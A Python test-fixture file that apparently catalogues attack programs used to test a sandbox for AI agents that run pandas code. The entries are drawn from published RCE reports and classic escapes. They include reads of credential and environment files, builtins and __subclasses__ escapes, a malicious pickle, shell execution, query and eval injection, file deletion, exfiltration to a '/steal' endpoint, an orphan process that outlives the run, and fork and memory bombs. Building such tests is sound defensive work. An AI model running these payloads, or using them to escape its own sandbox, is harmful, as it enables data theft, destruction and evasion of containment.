"""Attack programs against the sandbox, drawn from published RCE reports on pandas agents (PandasAI,
LangChain's pandas agent and PAL chain, LlamaIndex's PandasQueryEngine) and classic Python sandbox escapes.

Each program tries to do harm and, if it got through, leaves the stolen text or the word ESCAPED in
`result`. Placeholders filled in by the tests: {outside} (a folder outside the sandbox holding a
secret), {secret_file} (a file in it), {port} (a server the host process is running), {pickle} (a
malicious pickle outside), {parquet} (a Parquet file of secrets outside).

`imp` below is the real `__import__`, reached through a pandas function's globals: the classic way
past restricted builtins, so these programs also test the layers beneath the static check.
"""

from __future__ import annotations

from dataclasses import dataclass

REAL_IMPORT = "imp = pd.read_csv.__globals__['__builtins__']['__import__']\n"


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    source: str  # where the technique comes from
    #: "limit" attacks must end by hitting a resource limit; "contained" ones may run but must leak nothing
    outcome: str = "blocked"


ATTACKS: list[Attack] = [
    # -- reading files outside the work dir ------------------------------------------------------------
    Attack("open_etc_passwd", "result = open('/etc/passwd').read()", "classic"),
    Attack("open_secret", "result = open('{secret_file}').read()", "classic"),
    Attack("read_csv_secret", "result = pd.read_csv('{secret_file}', header=None)", "PandasAI read_csv advisory"),
    Attack(
        "read_csv_passwd", "result = pd.read_csv('/etc/passwd', sep=':', header=None)", "PandasAI read_csv advisory"
    ),
    Attack("read_json_secret", "result = pd.read_json('{outside}/secret.json')", "pandas I/O"),
    Attack("read_parquet_secret", "result = pd.read_parquet('{parquet}')", "pandas I/O through pyarrow's C++ reader"),
    Attack("read_table_proc_environ", "result = pd.read_table('/proc/1/environ', header=None)", "env theft via /proc"),
    Attack("np_loadtxt", "result = np.loadtxt('{secret_file}', dtype=str).tolist()", "numpy I/O"),
    Attack("np_fromfile", "result = np.fromfile('{secret_file}', dtype='u1').tobytes().decode()", "numpy I/O"),
    Attack("pathlib_read", "import pathlib\nresult = pathlib.Path('{secret_file}').read_text()", "stdlib I/O"),
    Attack(
        "real_builtins_open",
        "result = pd.read_csv.__globals__['__builtins__']['open']('{secret_file}').read()",
        "restricted-builtins escape via function globals",
    ),
    Attack(
        "symlink_escape",
        REAL_IMPORT
        + "os = imp('os')\nos.symlink('{secret_file}', 'link.txt')\nresult = pd.read_csv('link.txt').to_string()",
        "symlink out of the work dir",
    ),
    Attack(
        "chdir_escape",
        REAL_IMPORT + "os = imp('os')\nos.chdir('{outside}')\nresult = pd.read_csv('secret.txt', header=None)",
        "relative path after chdir",
    ),
    Attack("listdir_root", REAL_IMPORT + "result = imp('os').listdir('/root')", "directory listing"),
    Attack(
        "parent_environ",
        REAL_IMPORT + "os = imp('os')\nresult = open(f'/proc/{{os.getppid()}}/environ', 'rb').read()",
        "host secrets through /proc/<ppid>/environ",
    ),
    # -- pandas I/O that executes or writes ------------------------------------------------------------
    Attack("read_pickle_outside", "result = pd.read_pickle('{pickle}')", "LangChain/PandasAI read_pickle RCE"),
    Attack(
        "read_pickle_inside",
        "payload = b\"cos\\nsystem\\n(S'touch {outside}/ESCAPED'\\ntR.\"\n"
        "np.frombuffer(payload, dtype='u1').tofile('evil.pkl')\nresult = pd.read_pickle('evil.pkl')",
        "pickle written in the work dir, then loaded",
    ),
    Attack("to_csv_outside", "df.to_csv('{outside}/ESCAPED.csv')\nresult = 'ESCAPED'", "write outside"),
    Attack("to_parquet_outside", "df.to_parquet('{outside}/ESCAPED.parquet')\nresult = 'ESCAPED'", "C++ writer"),
    Attack("tofile_outside", "np.arange(3).tofile('{outside}/ESCAPED.bin')\nresult = 'ESCAPED'", "numpy writer"),
    Attack(
        "savefig_outside",
        "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('{outside}/ESCAPED.png')\nresult = 'ESCAPED'",
        "matplotlib writer",
    ),
    Attack(
        "sqlite_outside",
        REAL_IMPORT + "con = imp('sqlite3').connect('{outside}/ESCAPED.db')\ncon.execute('create table t(x)')\n"
        "con.commit()\nresult = 'ESCAPED'",
        "C-level file creation",
    ),
    Attack("remove_secret", REAL_IMPORT + "imp('os').remove('{secret_file}')\nresult = 'ESCAPED'", "delete outside"),
    Attack("rmtree_outside", REAL_IMPORT + "imp('shutil').rmtree('{outside}')\nresult = 'ESCAPED'", "delete outside"),
    Attack(
        "tempfile_tmp",
        REAL_IMPORT + "result = imp('tempfile').mkstemp(dir='/tmp', prefix='ESCAPED')",
        "write to the shared /tmp",
    ),
    # -- processes -------------------------------------------------------------------------------------
    Attack("os_system", "import os\nos.system('touch {outside}/ESCAPED')\nresult = 'ESCAPED'", "classic"),
    Attack(
        "dunder_import_os",
        "__import__('os').system('touch {outside}/ESCAPED')\nresult = 'ESCAPED'",
        "LangChain PAL chain bypass",
    ),
    Attack(
        "subclasses_wrap_close",
        "cls = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]\n"
        "cls.__init__.__globals__['system']('touch {outside}/ESCAPED')\nresult = 'ESCAPED'",
        "classic __subclasses__ escape (PandasAI, LlamaIndex reports)",
    ),
    Attack(
        "pandas_module_os",
        "pd.io.common.os.system('touch {outside}/ESCAPED')\nresult = 'ESCAPED'",
        "os reached through pandas' own modules",
    ),
    Attack(
        "subprocess_run",
        REAL_IMPORT + "imp('subprocess').run(['touch', '{outside}/ESCAPED'])\nresult = 'ESCAPED'",
        "classic",
    ),
    Attack(
        "posixsubprocess_direct",
        REAL_IMPORT + "ps, os = imp('_posixsubprocess'), imp('os')\nr, w = os.pipe()\n"
        "pid = ps.fork_exec([b'/usr/bin/touch', b'{outside}/ESCAPED'], [b'/usr/bin/touch'], True, (w,), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, False, -1, None, None, None, -1, None, False)\n"
        "os.waitpid(pid, 0)\nresult = 'ESCAPED'",
        "bypasses subprocess' own audit event",
    ),
    Attack(
        "execv_shell",
        REAL_IMPORT + "imp('os').execv('/bin/sh', ['sh', '-c', 'touch {outside}/ESCAPED'])",
        "classic",
    ),
    Attack(
        "posix_spawn",
        REAL_IMPORT + "imp('os').posix_spawn('/usr/bin/touch', ['touch', '{outside}/ESCAPED'], {{}})\nresult='ESCAPED'",
        "spawn without fork",
    ),
    Attack(
        "orphan_python_process",
        REAL_IMPORT + "ps, os = imp('_posixsubprocess'), imp('os')\nr, w = os.pipe()\n"
        "exe = os.fsencode(os.sys.executable)\n"
        "pid = ps.fork_exec([exe, b'-c', b'import time; time.sleep(61.25)'], [exe], True, (w,), None, None,"
        " -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1, None, False)\nresult = 'ESCAPED'",
        "a new session that outlives the run",
    ),
    Attack(
        "swap_stdout_for_link",
        REAL_IMPORT + "os = imp('os')\nos.remove('stdout.txt')\nos.symlink('{secret_file}', 'stdout.txt')\n"
        "result = 'ESCAPED'",
        "make the host read a file through a planted link",
    ),
    Attack("fork_bomb", REAL_IMPORT + "os = imp('os')\nwhile True:\n    os.fork()", "fork bomb"),
    Attack(
        "thread_bomb",
        REAL_IMPORT + "t, nap = imp('threading'), imp('time').sleep\n"
        "threads = [t.Thread(target=nap, args=(30,), daemon=True) for _ in range(100000)]\n"
        "for th in threads:\n    th.start()\nresult = 'ESCAPED'",
        "thread bomb (threads count as processes)",
    ),
    Attack(
        "ctypes_system",
        REAL_IMPORT + "imp('ctypes').CDLL(None).system(b'touch {outside}/ESCAPED')\nresult = 'ESCAPED'",
        "ctypes to libc",
    ),
    Attack(
        "importlib_subprocess",
        REAL_IMPORT + "imp('importlib').import_module('subprocess').getoutput('id')\nresult = 'ESCAPED'",
        "import through importlib",
    ),
    Attack(
        "query_injection",
        "result = df.query('@pd.io.common.os.system(\"touch {outside}/ESCAPED\") == 0')",
        "DataFrame.query expression injection",
    ),
    Attack(
        "eval_python_engine",
        "result = df.eval(\"__import__('os').system('touch {outside}/ESCAPED')\", engine='python')",
        "DataFrame.eval injection",
    ),
    Attack(
        "code_object_crafting",
        "f = lambda: 0\ng = f.__code__.replace(co_consts=(1,))\nresult = 'ESCAPED'",
        "bytecode crafting",
    ),
    Attack(
        "remove_audit_hook",
        REAL_IMPORT + "imp('sys').addaudithook(lambda *a: None)\nresult = 'ESCAPED'",
        "audit-hook tampering",
    ),
    # -- network ---------------------------------------------------------------------------------------
    Attack(
        "socket_to_host",
        REAL_IMPORT + "s = imp('socket').create_connection(('127.0.0.1', {port}), timeout=2)\nresult = 'ESCAPED'",
        "reach the host's server",
    ),
    Attack(
        "urllib_to_host",
        REAL_IMPORT + "result = imp('urllib.request').urlopen('http://127.0.0.1:{port}/steal', timeout=2).read()",
        "HTTP exfiltration",
    ),
    Attack("read_csv_url", "result = pd.read_csv('http://127.0.0.1:{port}/steal.csv')", "pandas URL reader"),
    Attack("dns_lookup", REAL_IMPORT + "result = imp('socket').gethostbyname('example.com')", "DNS exfiltration"),
    # -- secrets, signals, resources -------------------------------------------------------------------
    Attack("environment", REAL_IMPORT + "result = dict(imp('os').environ)", "API keys in the env", "contained"),
    Attack("kill_host", REAL_IMPORT + "os = imp('os')\nos.kill(os.getppid(), 9)\nresult = 'ESCAPED'", "signal"),
    Attack(
        "ignore_cpu_signal",
        REAL_IMPORT + "sig = imp('signal')\nsig.signal(sig.SIGXCPU, sig.SIG_IGN)\nwhile True:\n    pass",
        "signal trick against the CPU limit",
        "limit",
    ),
    Attack("infinite_loop", "while True:\n    pass", "denial of service", "limit"),
    Attack("sleep_forever", REAL_IMPORT + "imp('time').sleep(3600)", "denial of service", "limit"),
    Attack("memory_bomb", "x = 'a' * (10 ** 11)\nresult = len(x)", "memory exhaustion", "limit"),
    Attack("numpy_memory_bomb", "result = np.ones((10 ** 6, 10 ** 5)).sum()", "memory exhaustion", "limit"),
    Attack("huge_output", "for _ in range(10 ** 6):\n    print('x' * 1000)\nresult = 'done'", "output flood", "limit"),
    Attack(
        "huge_file",
        "np.zeros(10 ** 9, dtype='u1').tofile('big.bin')\nresult = 'ESCAPED'",
        "disk exhaustion",
        "limit",
    ),
]
